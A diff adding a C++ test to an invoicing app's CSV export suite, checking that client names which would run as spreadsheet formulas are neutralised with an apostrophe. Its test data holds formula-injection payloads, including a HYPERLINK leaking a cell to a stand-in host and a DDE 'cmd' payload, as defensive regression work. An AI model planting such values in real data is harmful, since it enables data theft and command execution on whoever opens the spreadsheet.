@@ -437,3 +437,55 @@ TEST_CASE("list.export_csv: every page of a list, French formats, and it imports
     CHECK(w.call("list.export_csv", {{"list", "client.list"}, {"params", {{"sort", "colour"}}}}, w.admin)["code"]
         == "validation");
 }
+
+// Issue 23, finding 5 (2026-12-07): a client name planted by an agent (=HYPERLINK(...), =cmd|...)
+// ran as a formula in the manager's spreadsheet. Text that starts a formula is written behind an
+// apostrophe; amounts stay numbers; the export still reads back unchanged.
+TEST_CASE("list.export_csv: text that a spreadsheet would run is neutralised, amounts stay numbers")
+{
+    test::World w;
+    const std::vector<std::string> planted
+        = {"=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0"};
+    for (std::size_t i = 0; i < planted.size(); ++i)
+        CHECK(
+            w.call("client.create", {{"code", "P" + std::to_string(i)}, {"name", planted[i]}}, w.admin).contains("id"));
+    const auto c = w.client("ZZ");
+    w.invoice(c, "F-1", 123456, "2026-10-31", "2026-10-01");
+    w.call("payment.record",
+        {{"client_id", c}, {"date", "2026-11-02"}, {"amount_cents", 5000}, {"method", "transfer"}, {"reference", "-5"}},
+        w.admin);
+    const json r = w.call("list.export_csv", {{"list", "client.list"}, {"params", {{"sort", "code"}}}}, w.admin);
+    const std::string text = r["content"];
+    CAPTURE(text);
+    // Every cell of the planted names starts with the apostrophe; none starts a formula.
+    const auto lines = dataimport::parse(dataimport::decode(text).text, ';');
+    REQUIRE(lines.records.size() == planted.size() + 2);
+    int nameCol = -1;
+    for (std::size_t k = 0; k < lines.records[0].fields.size(); ++k)
+        if (lines.records[0].fields[k] == "name")
+            nameCol = static_cast<int>(k);
+    REQUIRE(nameCol >= 0);
+    for (const auto& p : planted) {
+        const std::string name = "'" + p;
+        const bool written = text.find(";" + name + ";") != std::string::npos
+            || text.find(";" + dataimport::csvField(name, ';') + ";") != std::string::npos;
+        CHECK(written);
+    }
+    for (const std::string raw : {";=HYPERLINK", ";+1;", ";-1;", ";@SUM", ";=cmd"})
+        CHECK(text.find(raw) == std::string::npos);
+    // The reader drops the apostrophe again: what was exported imports back unchanged.
+    const json back = csv(w, "import.preview", "clients", text);
+    CHECK(back["counts"]["unchanged"] == static_cast<int>(planted.size()) + 1);
+    CHECK(back["counts"]["error"] == 0);
+    // A tab or a carriage return first (names are trimmed, so other text fields carry them).
+    CHECK(dataimport::spreadsheetText("\tx") == "'\tx");
+    CHECK(dataimport::spreadsheetText("\r=1") == "'\r=1");
+    CHECK(dataimport::spreadsheetText("a=1") == "a=1");
+    CHECK(dataimport::spreadsheetText("") == "");
+    // Amounts are numbers, a negative one too (a credit note's), never behind an apostrophe.
+    const json pay = w.call("list.export_csv", {{"list", "payment.list"}}, w.admin);
+    const std::string ptext = pay["content"];
+    CHECK(ptext.find(";50,00;") != std::string::npos);
+    CHECK(ptext.find("'-5") != std::string::npos); // the reference is text
+    CHECK(ptext.find("'50,00") == std::string::npos);
+}
